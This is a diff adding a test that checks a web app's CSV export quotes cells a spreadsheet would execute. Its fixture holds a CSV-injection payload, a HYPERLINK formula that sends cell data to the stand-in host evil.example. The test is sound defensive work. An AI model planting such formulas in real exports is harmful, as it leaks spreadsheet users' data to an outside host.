@@ -130,6 +130,17 @@ def test_csv_holds_the_same_figures(history, reviewer_client):
     assert 'href="/insights/insights.csv?since=2026-11-02&amp;until=2026-11-03"' in page
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_quoted(reviewer_client):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    chain.append([build_record(kind="approval", decision="denied", status="denied", tool="@sum", reviewer="-rob",
+                               occurred_at=timezone.now(), details={"comment": formula})])
+    chain.seal()
+    rows = list(csv.reader(io.StringIO(reviewer_client.get("/insights/insights.csv").content.decode())))
+    assert ["denial_reasons", "'" + formula, "", "1"] in rows
+    assert ["reviewer", "'-rob", "denied", "1"] in rows
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
+
+
 def test_operator_without_the_audit_permission_is_refused(client, operator):
     client.force_login(operator)
     assert client.get("/insights/").status_code == 403
